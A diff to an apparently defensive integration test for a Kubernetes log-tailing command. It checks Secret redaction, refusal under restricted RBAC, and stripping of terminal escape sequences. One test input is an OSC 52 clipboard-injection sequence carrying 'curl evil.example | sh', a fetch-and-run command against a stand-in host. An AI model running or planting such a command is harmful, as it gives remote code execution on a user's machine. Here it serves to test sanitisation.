@@ -4,9 +4,18 @@
 // --include/--exclude and the errors a user can cause.
 import assert from 'node:assert/strict'
 import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process'
+import fs from 'node:fs'
+import os from 'node:os'
 import path from 'node:path'
 import { after, before, describe, it } from 'node:test'
-import { PatchStrategy, setHeaderOptions, type V1Deployment, type V1Pod } from '@kubernetes/client-node'
+import {
+  KubeConfig,
+  PatchStrategy,
+  RbacAuthorizationV1Api,
+  setHeaderOptions,
+  type V1Deployment,
+  type V1Pod,
+} from '@kubernetes/client-node'
 import { appendContainerLog, currentRun, type ContainerRef } from '../../shared/cluster/sim/container-logs.ts'
 import type { Kube } from '../../shared/kube/client.ts'
 import { repoRoot } from '../../shared/core/paths.ts'
@@ -52,11 +61,13 @@ describe('just logs', { skip: process.env.NSOPS_TEST_CONTEXT ? 'needs the sim cl
   let ns: { name: string; cleanup: () => Promise<void> }
   const runs: Run[] = []
 
-  const logs = (...args: string[]): Run => {
+  const logs = (...args: string[]): Run => logsAs(cluster.kubeconfig, ...args)
+  const rbac = () => kube.kc.makeApiClient(RbacAuthorizationV1Api)
+  const logsAs = (kubeconfig: string, ...args: string[]): Run => {
     const child = spawn(script, args, {
       env: {
         ...process.env,
-        NSOPS_KUBECONFIG: cluster.kubeconfig,
+        NSOPS_KUBECONFIG: kubeconfig,
         NSOPS_TEST_LOGS_NS: ns.name,
         NO_COLOR: '1',
         CI: '1',
@@ -214,6 +225,140 @@ describe('just logs', { skip: process.env.NSOPS_TEST_CONTEXT ? 'needs the sim cl
     run.child.kill('SIGINT')
     await run.exit
     assert.deepEqual(run.out(), ['GET /api 200', 'POST /api 201'])
+  })
+
+  it("scrubs the namespace's Secret values from every line: as they are, base64-encoded and JSON-escaped", async () => {
+    const value = 'p@ss"word-42xyz'
+    await kube.core.createNamespacedSecret({
+      namespace: ns.name,
+      body: { metadata: { name: 'creds' }, stringData: { password: value } },
+    })
+    try {
+      const pod = await podOf('other')
+      const run = logs('other', '--since', '1h')
+      write(pod, [
+        `raw ${value} end`,
+        `b64 ${Buffer.from(value).toString('base64')} end`,
+        `json ${JSON.stringify({ pw: value })} end`,
+        'scrub done',
+      ])
+      await seen(run, 'scrub done')
+      run.child.kill('SIGINT')
+      await run.exit
+      const out = run.out().join('\n')
+      assert.match(out, /^raw \[redacted\] end$/m)
+      assert.match(out, /^b64 \[redacted\] end$/m)
+      assert.match(out, /^json \{"pw":"\[redacted\]"\} end$/m)
+      assert.doesNotMatch(out, /p@ss|cEBzcyJ3b3Jk/)
+    } finally {
+      await kube.core.deleteNamespacedSecret({ name: 'creds', namespace: ns.name })
+    }
+  })
+
+  it('says so and shows nothing when the Secrets cannot be read; --unscrubbed shows the lines, with a warning', async () => {
+    // a ServiceAccount that may read pods and their logs, not Secrets
+    const sa = 'logs-reader'
+    await kube.core.createNamespacedServiceAccount({ namespace: ns.name, body: { metadata: { name: sa } } })
+    await rbac().createNamespacedRole({
+      namespace: ns.name,
+      body: {
+        metadata: { name: sa },
+        rules: [{ apiGroups: [''], resources: ['pods', 'pods/log'], verbs: ['get', 'list', 'watch'] }],
+      },
+    })
+    await rbac().createNamespacedRoleBinding({
+      namespace: ns.name,
+      body: {
+        metadata: { name: sa },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: sa },
+        subjects: [{ kind: 'ServiceAccount', name: sa, namespace: ns.name }],
+      },
+    })
+    const clusterRole = `${ns.name}-${sa}`
+    await rbac().createClusterRole({
+      body: {
+        metadata: { name: clusterRole },
+        rules: [{ apiGroups: [''], resources: ['namespaces'], verbs: ['get'] }],
+      },
+    })
+    await rbac().createClusterRoleBinding({
+      body: {
+        metadata: { name: clusterRole },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: clusterRole },
+        subjects: [{ kind: 'ServiceAccount', name: sa, namespace: ns.name }],
+      },
+    })
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nsops-logs-reader-'))
+    try {
+      const token = await kube.core.createNamespacedServiceAccountToken({
+        name: sa,
+        namespace: ns.name,
+        body: { spec: { audiences: [], expirationSeconds: 3600 } },
+      })
+      const admin = new KubeConfig()
+      admin.loadFromFile(cluster.kubeconfig)
+      const c = admin.getCurrentCluster()!
+      const kc = new KubeConfig()
+      kc.loadFromOptions({
+        clusters: [{ ...c }],
+        users: [{ name: sa, token: token.status!.token }],
+        contexts: [{ name: sa, cluster: c.name, user: sa }],
+        currentContext: sa,
+      })
+      const file = path.join(dir, 'kubeconfig')
+      fs.writeFileSync(file, kc.exportConfig())
+      const refused = logsAs(file, 'other', '--since', '1h')
+      assert.equal(await refused.exit, 1, refused.err())
+      assert.match(
+        refused.err(),
+        new RegExp(
+          `the Secrets of ${ns.name} cannot be read \\(not allowed to list them \\(403\\)\\), so their values could not be scrubbed from the logs\\. No line was shown`,
+        ),
+      )
+      assert.match(refused.err(), /--unscrubbed/)
+      assert.deepEqual(refused.out(), [])
+
+      const pod = await podOf('other')
+      const shown = logsAs(file, 'other', '--since', '1h', '--unscrubbed')
+      write(pod, ['unscrubbed line'])
+      await seen(shown, 'unscrubbed line')
+      shown.child.kill('SIGINT')
+      await shown.exit
+      assert.match(shown.err(), /cannot be read .*: lines are shown as they are \(--unscrubbed\)/)
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true })
+      await rbac().deleteClusterRoleBinding({ name: clusterRole })
+      await rbac().deleteClusterRole({ name: clusterRole })
+    }
+  })
+
+  it('prints container output without the terminal control sequences it carries (colours kept), and cuts a line past 8192 characters', async () => {
+    const pod = await podOf('other')
+    const run = logs('other', '--since', '1h')
+    const clipboard = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`
+    write(pod, [
+      `before${clipboard}after osc52`,
+      '\x1b]0;pwned title\x1b\\title gone',
+      '\x1b[2J\x1b[Hscreen kept\x1b[?1049h',
+      'over\rwritten',
+      '\x1b[31mred stays red\x1b[0m',
+      `long ${'x'.repeat(50_000)}`,
+      'controls done',
+    ])
+    await seen(run, 'controls done')
+    run.child.kill('SIGINT')
+    await run.exit
+    const out = run.out()
+    assert.ok(out.includes('beforeafter osc52'), out.join('\n').slice(0, 2000))
+    assert.ok(out.includes('title gone'))
+    assert.ok(out.includes('screen kept'))
+    assert.ok(out.includes('overwritten'))
+    assert.ok(out.includes('\x1b[31mred stays red\x1b[0m'), 'SGR colours are kept')
+    const all = out.join('\n')
+    assert.doesNotMatch(all, /\x1b\]|\x07|\x1b\[2J|\x1b\[\?1049h|\r/)
+    const long = out.find((l) => l.startsWith('long '))!
+    assert.ok(long.length < 8300, `the long line is cut (${long.length} characters)`)
+    assert.ok(long.endsWith('… (line cut at 8192 characters)'), long.slice(-100))
   })
 
   it('refuses a bad duration, a bad regex and an unknown app with a hint', async () => {
